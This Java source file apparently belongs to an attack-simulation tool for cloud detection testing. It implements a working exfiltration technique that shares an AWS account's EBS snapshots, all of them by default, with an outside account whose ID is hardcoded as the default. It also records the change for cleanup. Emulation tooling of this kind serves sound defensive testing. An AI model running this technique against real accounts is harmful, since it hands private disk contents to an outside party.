package io.firedrill.injector.technique.exfiltration;

import io.firedrill.injector.aws.ApiCall;
import io.firedrill.injector.aws.AwsSession;
import io.firedrill.injector.cleanup.Change;
import io.firedrill.injector.cleanup.Ledger;
import io.firedrill.injector.technique.IncidentType;
import io.firedrill.injector.technique.Parameters;
import io.firedrill.injector.technique.Technique;
import io.firedrill.injector.technique.TechniqueInfo;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import software.amazon.awssdk.services.ec2.model.Snapshot;

/**
 * Shares EBS snapshots with an account the attacker owns, which can then make volumes of them and
 * read the disks at leisure: no data leaves through this account's network.
 */
public final class Ec2ShareSnapshot implements Technique<Ec2ShareSnapshot.Params> {

  /**
   * @param snapshotId the snapshot to share, or null for every snapshot the account owns in the
   *     exercise's region
   * @param account the attacker's account to share with
   */
  public record Params(String snapshotId, String account) {

    public Params {
      if (snapshotId != null && !snapshotId.matches("snap-[0-9a-f]+")) {
        throw new IllegalArgumentException(
            "snapshotId must be a snapshot id such as snap-0123456789abcdef0; got '"
                + snapshotId
                + "'");
      }
      if (!account.matches("\\d{12}")) {
        throw new IllegalArgumentException(
            "account must be an account id of 12 digits; got '" + account + "'");
      }
    }
  }

  private static final TechniqueInfo INFO =
      new TechniqueInfo(
          "aws.exfiltration.ec2-share-snapshot",
          "Share EBS snapshots with an outside account",
          "Lists the account's own snapshots with ec2:DescribeSnapshots, then calls"
              + " ec2:ModifySnapshotAttribute to add the attacker's account to each one's"
              + " createVolumePermission. Cleanup removes that permission.",
          List.of("T1537"),
          IncidentType.INFORMATION_EXPOSURE,
          List.of("DescribeSnapshots", "ModifySnapshotAttribute"),
          List.of("Exfiltration:IAMUser/AnomalousBehavior"),
          List.of("ec2:DescribeSnapshots", "ec2:ModifySnapshotAttribute"));

  @Override
  public TechniqueInfo info() {
    return INFO;
  }

  @Override
  public Params parameters(Map<String, String> with) {
    Parameters.allowOnly(with, Set.of("snapshotId", "account"));
    return new Params(with.get("snapshotId"), with.getOrDefault("account", "193672423079"));
  }

  @Override
  public List<ApiCall> detonate(AwsSession session, Params p, Ledger ledger) {
    String region = session.region();
    List<ApiCall> calls = new ArrayList<>();
    List<String> ids = new ArrayList<>();
    calls.add(
        session.call(
            "ec2",
            "DescribeSnapshots",
            () -> {
              var described =
                  session
                      .ec2(region)
                      .describeSnapshots(
                          r -> {
                            r.ownerIds("self");
                            if (p.snapshotId() != null) {
                              r.snapshotIds(p.snapshotId());
                            }
                          });
              described.snapshots().stream().map(Snapshot::snapshotId).forEach(ids::add);
              return described;
            }));
    for (String id : ids) {
      ledger.willMake(
          new Change(Change.SNAPSHOT_SHARED, id, Map.of("region", region, "account", p.account())));
      calls.add(
          session.call(
              "ec2",
              "ModifySnapshotAttribute",
              () ->
                  session
                      .ec2(region)
                      .modifySnapshotAttribute(
                          r ->
                              r.snapshotId(id)
                                  .attribute("createVolumePermission")
                                  .createVolumePermission(
                                      perm -> perm.add(u -> u.userId(p.account()))))));
    }
    return calls;
  }
}
